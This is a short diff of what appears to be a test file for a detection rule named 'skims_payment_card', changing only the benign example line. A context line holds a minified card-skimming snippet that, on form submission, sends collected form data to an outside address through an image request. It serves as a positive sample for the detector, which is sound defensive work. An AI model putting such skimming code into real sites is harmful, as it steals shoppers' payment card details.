@@ -2,4 +2,4 @@
 // ruleid: skims_payment_card
 t.addEventListener("submit",function(){(new Image).src=n+"?d="+encodeURIComponent(JSON.stringify(a()))},!0)}();
 // ok: skims_payment_card
-var preview = new Image;
+var preview = new Image; preview.src = "/img/card.png";
